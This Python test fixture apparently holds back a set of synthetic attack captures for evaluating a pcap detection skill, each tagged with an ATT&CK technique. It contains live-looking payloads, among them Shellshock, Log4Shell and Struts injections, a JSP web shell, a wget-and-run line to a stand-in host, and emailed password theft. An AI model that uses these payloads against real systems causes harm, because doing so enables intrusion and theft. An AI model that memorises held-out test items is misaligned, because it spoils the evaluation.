"""Captures of attacks by family, the half that was held back.

They differ from the open ones in addresses, ports, link layer, segmentation, tools and forms of the messages.
"""

# ruff: noqa: E501 - messages are as long as they are
from __future__ import annotations

import base64
from uuid import UUID

from tests.support.captures import conversation, ethernet, udp
from tests.support.protocol_messages import (
    LOGON_FAILURE,
    add_entry,
    bits,
    both,
    created,
    equal,
    kdc_reply,
    kdc_request,
    modify,
    present,
    rdp_confirm,
    rdp_request,
    rpc_bind,
    rpc_call,
    search,
    simple_bind,
    wide,
    write,
)
from tests.svc.assistant.skills.pcap.attack_frames import (
    ACTIVATOR,
    ATSVC,
    DC,
    DC6,
    DRSUAPI,
    EFS,
    EVIL,
    HOST,
    LSARPC,
    PC,
    PC6,
    SAMR,
    SRVSVC,
    START,
    SVCCTL,
    TASKS,
    USERS,
    WINREG,
    WKSSVC,
    WMI,
    Build,
    arps,
    directory,
    echo,
    eternal,
    floods,
    get,
    iodine,
    kerberos_tcp,
    knock,
    logins,
    opened,
    over_pipe,
    over_tcp,
    path_of_sum,
    poisoned,
    post,
    relay,
    roast,
    spray,
    ssh_guesses,
    stage,
    tagged,
    web,
    winrm,
    zerologon,
)

SVC = ("", "svc", "X", b"87654321")
HELD: dict[str, tuple[set[str], Build]] = {
    "service created over TCP by 64-bit call": (
        {"T1569.002"},
        lambda: tagged(
            over_tcp(SVCCTL, [(15, b""), (60, wide("xkqz") + wide("powershell -enc AAAA"))], port=50_001, piece=33)
        ),
    ),
    "service changed over a pipe (A)": (
        {"T1543.003"},
        lambda: over_pipe(SVCCTL, "\\PIPE\\svcctl", [(27, b""), (23, b"cmd /c x")], by_write=True, piece=70),
    ),
    "services listed": ({"T1007"}, lambda: over_tcp(SVCCTL, [(27, b""), (14, b"")])),
    "WMI by alter context": (
        {"T1047"},
        lambda: conversation(
            [
                (">", rpc_bind("f309ad18-d86a-11d0-a075-00c04fb68820")),
                (">", rpc_call(6)),
                (">", rpc_bind(WMI, kind=14, context_id=2)),
                (">", rpc_call(24, bytes(90), context_id=2)),
            ],
            client=PC6,
            server=DC6,
            ports=(52_000, 49_999),
            piece=50,
        ),
    ),
    "remote event subscription": ({"T1546.003"}, lambda: over_tcp(WMI, [(14, wide("__EventFilter"))])),
    "ShellWindows": (
        {"T1021.003"},
        lambda: over_tcp(ACTIVATOR, [(4, bytes(12) + UUID("9ba05972-f6a8-11cf-a442-00a0c90a8f39").bytes_le)], port=135),
    ),
    "task run over TCP": (
        {"T1053.005"},
        lambda: over_tcp(TASKS, [(0, b""), (1, bytes(50)), (13, b"")], port=49_667, client=PC6, server=DC6),
    ),
    "at job over TCP": ({"T1053.002"}, lambda: over_tcp(ATSVC, [(2, b""), (0, bytes(30))])),
    "DCSync over a pipe": ({"T1003.006"}, lambda: over_pipe(DRSUAPI, "lsass", [(3, bytes(900))], server=DC, piece=200)),
    "hives saved (Ex)": ({"T1003.002"}, lambda: over_tcp(WINREG, [(31, wide("SYSTEM"))])),
    "key created": ({"T1112"}, lambda: over_tcp(WINREG, [(6, wide("Run")), (22, b"")])),
    "accounts shown": ({"T1087.002"}, lambda: over_tcp(SAMR, [(5, b""), (51, b"")], server=DC)),
    "aliases and their members": (
        {"T1069.002"},
        lambda: over_pipe(SAMR, "samr", [(15, b""), (33, b"")], server=DC, by_write=True),
    ),
    "sessions over TCP": ({"T1049"}, lambda: over_tcp(SRVSVC, [(12, b"")])),
    "sticky shares": ({"T1135"}, lambda: over_pipe(SRVSVC, "srvsvc", [(36, b"")], by_write=True, piece=60)),
    "logged-on users over TCP": ({"T1033"}, lambda: over_tcp(WKSSVC, [(2, b"")], client=PC6, server=DC6)),
    "trusts listed": ({"T1482"}, lambda: over_pipe(LSARPC, "lsarpc", [(50, b"")], server=DC)),
    "secret read over TCP": ({"T1003.004"}, lambda: over_tcp(LSARPC, [(43, bytes(60))], server=DC)),
    "Zerologon over a pipe": ({"T1210"}, lambda: zerologon(4, by_pipe=True)),
    "PetitPotam by another call": ({"T1187"}, lambda: over_tcp(EFS, [(5, wide("\\\\10.9.1.99\\a\\b"))], server=DC)),
    "DFSCoerce": (
        {"T1187"},
        lambda: over_pipe("4fc742e0-4a10-11cf-8273-00aa004ae673", "netdfs", [(13, wide("10.9.1.99"))], server=DC),
    ),
    "driver by the asynchronous spooler": (
        {"T1547.012"},
        lambda: over_tcp("76f03f96-cdfd-44fc-a22c-64950a001209", [(39, bytes(200))], server=DC),
    ),
    "old log cleared": (
        {"T1070.001"},
        lambda: over_pipe("82273fdc-e32a-18c3-3f78-827929dc23ea", "eventlog", [(7, wide("Security")), (0, b"")]),
    ),
    "Kerberoasting over TCP, only RC4": (
        {"T1558.003"},
        lambda: tagged(roast(["cifs/nas.corp.example"], (23,), tcp_port=52_100, piece=90)),
    ),
    "Kerberoasting of a list by user name": (
        {"T1558.003"},
        lambda: roast([f"svc_{n}" for n in range(6)], (23, -133, 24)),
    ),
    "AS-REP roasting over IPv6": (
        {"T1558.004"},
        lambda: kerberos_tcp(
            [
                (">", kdc_request("svc-old", ("krbtgt", "CORP.EXAMPLE"), etypes=(23, 16), pac=False)),
                ("<", kdc_reply("svc-old", ("krbtgt", "CORP.EXAMPLE"), ticket=23, part=23)),
            ],
            client=PC6,
            server=DC6,
        ),
    ),
    "spraying with RC4": ({"T1110.003"}, lambda: spray([f"{u}.x" for u in USERS[:7]], 24, stamp=23, etypes=(23,))),
    "guessing from IPv6": ({"T1110.001"}, lambda: spray(["administrator"] * 9, 24, client=PC6, server=DC6)),
    "names tried": (
        {"T1087.002"},
        lambda: spray([f"{a}{b}" for a in "abcd" for b in ("smith", "jones", "brown")], 6, stamp=None, etypes=(18,)),
    ),
    "hash used for a ticket over TCP": (
        {"T1550.002"},
        lambda: kerberos_tcp(
            [
                (">", kdc_request("admin", ("krbtgt", "CORP.EXAMPLE"), etypes=(23,), stamp=23, pac=True)),
                ("<", kdc_reply("admin", ("krbtgt", "CORP.EXAMPLE"), part=23)),
            ],
            piece=77,
        ),
    ),
    "LDAP search for SPNs of users": (
        {"T1558.003"},
        lambda: directory(
            [
                search(
                    "dc=corp,dc=example",
                    both(
                        equal("samAccountType", "805306368"),
                        present("servicePrincipalName"),
                        equal("samaccountname", "*"),
                    ),
                    ["cn"],
                )
            ],
            piece=19,
        ),
    ),
    "accounts without pre-authentication (or)": (
        {"T1558.004"},
        lambda: directory(
            [search("", both(bits("UserAccountControl", "4194304"), equal("objectCategory", "person")))],
            ports=(50_211, 3268),
        ),
    ),
    "Enterprise Admins read": (
        {"T1069.002"},
        lambda: directory(
            [search("CN=Enterprise Admins,CN=Users,DC=corp,DC=example", present("objectClass"), ["member"], 0)]
        ),
    ),
    "accounts with adminCount": (
        {"T1087.002"},
        lambda: directory(
            [search("DC=corp,DC=example", both(equal("objectClass", "user"), equal("adminCount", "1")))],
            server=DC6,
            client=PC6,
        ),
    ),
    "managed passwords": (
        {"T1552"},
        lambda: directory(
            [
                search(
                    "DC=corp,DC=example",
                    equal("objectClass", "msDS-GroupManagedServiceAccount"),
                    ["msDS-ManagedPassword"],
                )
            ]
        ),
    ),
    "member added to administrators": (
        {"T1098.007"},
        lambda: directory([modify("CN=Administrators,CN=Builtin,DC=corp,DC=example", "Member", "CN=x", 0)], piece=25),
    ),
    "delegation to a computer": (
        {"T1098"},
        lambda: directory(
            [modify("CN=SRV1,CN=Computers,DC=corp,DC=example", "msDS-AllowedToActOnBehalfOfOtherIdentity", "x", 2)]
        ),
    ),
    "rogue controller": (
        {"T1207"},
        lambda: directory(
            [
                add_entry(
                    "CN=WS9,CN=Servers,CN=Default-First-Site-Name,CN=Sites,CN=Configuration,DC=corp,DC=example",
                    [("objectclass", "server")],
                )
            ]
        ),
    ),
    "LDAP password": ({"T1040"}, lambda: directory([simple_bind("corp\\svc", "x9!")], ports=(50_212, 3268))),
    "WinRM by Basic": (
        {"T1021.006"},
        lambda: winrm(
            "/wsman",
            5985,
            "Basic",
            b"<s:Envelope><w:ResourceURI>http://schemas.microsoft.com/wbem/wsman/1/windows/shell/cmd</w:ResourceURI></s:Envelope>",
            "application/soap+xml;charset=UTF-8",
        ),
    ),
    "WinRM on another port": (
        {"T1021.006"},
        lambda: winrm(
            "/wsman",
            8_088,
            "Kerberos",
            bytes(90),
            'multipart/encrypted;protocol="application/HTTP-Kerberos-session-encrypted"',
        ),
    ),
    "RDP to several hosts": (
        {"T1021.001"},
        lambda: [
            f
            for n in range(4)
            for f in conversation(
                [(">", rdp_request("eve")), ("<", rdp_confirm(8))],
                client=PC,
                server=f"10.9.1.{60 + n}",
                ports=(52_300 + n, 3389),
                at=START + 20 * n,
            )
        ],
    ),
    "RDP guessing over another port": (
        {"T1110.001"},
        lambda: [
            f
            for n in range(30)
            for f in conversation(
                [(">", rdp_request("hello")), ("<", rdp_confirm(1)), (">", bytes(400)), ("<", bytes(300))],
                client=EVIL,
                server=HOST,
                ports=(40_000 + n, 33_890),
                at=START + 2 * n,
            )
        ],
    ),
    "SSH guessing inside, other port": ({"T1110.001"}, lambda: tagged(ssh_guesses(PC, HOST, 40, 0.7, 2222))),
    "SMB guessing from outside": ({"T1110.001"}, lambda: logins(30, LOGON_FAILURE, ["administrator"], EVIL, HOST)),
    "SMB spraying of five": ({"T1110.003"}, lambda: logins(10, 0xC000006A, USERS[:6], PC, DC)),
    "NBNS poisoning": ({"T1557.001"}, lambda: poisoned(["FILESRV", "WPAD", "INTRANET"], kind="netbios")),
    "mDNS poisoning": (
        {"T1557.001"},
        lambda: poisoned(["printer9.local", "fielsrv.local", "wpad.local", "x.local"], kind="mdns"),
    ),
    "NTLM relay to the controller": ({"T1557.001"}, lambda: tagged(relay(b"\x01\xfe\x10\x00\x5e\x99\x03\x07", DC))),
    "EternalBlue answered by the implant": ({"T1210"}, lambda: eternal(81)),
    "batch file written to C$": (
        {"T1570"},
        lambda: opened(
            SVC,
            HOST,
            "C$",
            "Windows\\Temp\\run.bat",
            ("<", created(b"G" * 16, 4)),
            (">", write(b"G" * 16, b"@echo off\r\nwhoami > c:\\x.txt", 5)),
            port=52_400,
            piece=40,
        ),
    ),
    "startup folder": (
        {"T1547.001"},
        lambda: opened(
            SVC, HOST, "C$", "ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\u.lnk", port=52_401
        ),
    ),
    "NTDS fetched": (
        {"T1003.003"},
        lambda: opened(SVC, DC, "C$", "Windows\\NTDS\\ntds.dit", port=52_402),
    ),
    "Empire login": (
        {"T1071.001"},
        lambda: web(
            [
                post(
                    "/login/process.php",
                    bytes(range(200)),
                    "198.51.100.77",
                    "Cookie: session=SYPjU2MabcdEfWkX2tCWpHQ4qUE=\r\n",
                )
            ],
            ports=(52_430, 8080),
        ),
    ),
    "Covenant hello": (
        {"T1071.001"},
        lambda: web(
            [
                get("/en-us/docs.html?type=99e7ddc57dc84b4fb4a1c6b1&v=1", "198.51.100.77"),
                post(
                    "/en-us/index.html",
                    b"i=0e1d2c3b4a5968778695a4b3c2d1e0ff&data=SGVsbG8=&session=1234-abcd-00112233445566778899",
                ),
            ]
        ),
    ),
    "Meterpreter stager on port 4444": (
        {"T1071.001"},
        lambda: web([get("/" + path_of_sum(92, 110), "198.51.100.77:4444")], stage(220_000), ports=(52_440, 4444)),
    ),
    "Cobalt Strike stager": (
        {"T1071.001"},
        lambda: web([get("/" + path_of_sum(93, 4), "198.51.100.77")], stage(210_000)),
    ),
    "DNS tunnel in TXT": ({"T1071.004"}, lambda: tagged(iodine("c.sub.example.net", 80, 16, 8))),
    "ICMP tunnel with text": (
        {"T1095"},
        lambda: [
            f
            for n in range(30)
            for f in echo(
                PC,
                EVIL,
                b"GET /index HTTP/1.1 %d" % n + bytes(3 * n),
                b"HTTP/1.1 200 OK body" * (1 + n % 9),
                n,
                START + n,
            )
        ],
    ),
    "scan with refused ports over IPv6": (
        {"T1046"},
        lambda: [f for n in range(40) for f in knock(PC6, DC6, 1_000 + 13 * n, START + n * 0.3)],
    ),
    "NULL scan": (
        {"T1046"},
        lambda: [f for n in range(40) for f in knock(PC, HOST, 20 + n, START + n * 0.01, flags=0, back=None)],
    ),
    "UDP scan with payloads": (
        {"T1046"},
        lambda: [
            (START + n * 0.2, ethernet(udp(PC, HOST, (45_000 + n, 50 + 31 * n), b"\x00\x00\x10\x00")))
            for n in range(50)
        ],
    ),
    "ping flood": ({"T1498.001"}, lambda: floods("icmp", 2_000)),
    "ARP scan of a half": ({"T1018"}, lambda: arps("10.9.1.200", 90)),
    "Shellshock": ({"T1190"}, lambda: web([get("/cgi-bin/status", agent="() { :;}; /bin/bash -c 'id'")], server=HOST)),
    "Log4Shell nested": (
        {"T1190"},
        lambda: web([get("/api", extra="X-Api-Version: ${${::-j}ndi:rmi://198.51.100.77/o}\r\n")], server=HOST),
    ),
    "Struts": (
        {"T1190"},
        lambda: web(
            [get("/x.action", extra="Content-Type: %{(#_='multipart/form-data').(#cmd='id')}\r\n")], server=HOST
        ),
    ),
    "web shell (JSP)": (
        {"T1505.003"},
        lambda: web(
            [
                post(
                    "/up", b'<%@ page import="java.util.*"%><% Runtime.getRuntime().exec(request.getParameter("c")); %>'
                )
            ],
            server=HOST,
        ),
    ),
    "guessing with Basic": (
        {"T1110.001"},
        lambda: web(
            [
                get("/admin/", extra=f"Authorization: Basic {base64.b64encode(b'admin:%d' % n).decode()}\r\n")
                for n in range(25)
            ],
            b"HTTP/1.1 401 No\r\nContent-Length: 0\r\n\r\n",
            server=HOST,
        ),
    ),
    "address looked up by HTTP": (
        {"T1016"},
        lambda: web([get("/", "checkip.amazonaws.com", "curl/8")], server="203.0.113.40"),
    ),
    "mail sent away": (
        {"T1048.003"},
        lambda: conversation(
            [
                ("<", b"220 mx ESMTP\r\n"),
                (">", b"EHLO pc\r\n"),
                ("<", b"250-mx\r\n250 AUTH LOGIN\r\n"),
                (">", b"AUTH LOGIN\r\n"),
                ("<", b"334 VXNlcm5hbWU6\r\n"),
                (">", base64.b64encode(b"drop@example.org") + b"\r\n"),
                ("<", b"334 UGFzc3dvcmQ6\r\n"),
                (">", base64.b64encode(b"pw12345") + b"\r\n"),
                ("<", b"235 ok\r\n"),
                (">", b"MAIL FROM:<drop@example.org>\r\n"),
                ("<", b"250 ok\r\n"),
                (">", b"DATA\r\n"),
                ("<", b"354 go\r\n"),
                (
                    ">",
                    b"Subject: PW_anna/WS21\r\n\r\nURL: https://bank.example\r\nUsername: a\r\nPassword: b\r\nApplication: Chrome\r\n.\r\n",
                ),
            ],
            client=PC,
            server=EVIL,
            ports=(52_450, 587),
        ),
    ),
    "SQL Server shell enabled": (
        {"T1059.003"},
        lambda: conversation(
            [
                (">", b"\x12\x01\x00\x2f\x00\x00\x00\x00" + bytes(39)),
                (
                    ">",
                    b"\x01\x01\x00\x90\x00\x00\x01\x00"
                    + "exec sp_configure 'xp_cmdshell', 1; reconfigure".encode("utf-16-le"),
                ),
            ],
            client=EVIL,
            server=HOST,
            ports=(52_460, 14_330),
        ),
    ),
    "Telnet bot's other words": (
        {"T1059.004"},
        lambda: conversation(
            [
                ("<", b"\xff\xfd\x01BusyBox v1.2 login: "),
                (">", b"admin\r\n"),
                ("<", b"Password:"),
                (">", b"7ujMko0admin\r\n"),
                ("<", b"$ "),
                (">", b"cd /tmp; wget http://198.51.100.9/bins.sh; chmod 777 bins.sh; sh bins.sh\r\n"),
            ],
            client=EVIL,
            server=HOST,
            ports=(52_470, 2323),
        ),
    ),
    "mining (subscribe)": (
        {"T1496.001"},
        lambda: conversation(
            [(">", b'{"id": 1, "method": "mining.subscribe", "params": ["cpuminer/2.5.1"]}\n')],
            client=PC,
            server=EVIL,
            ports=(52_480, 443),
        ),
    ),
}
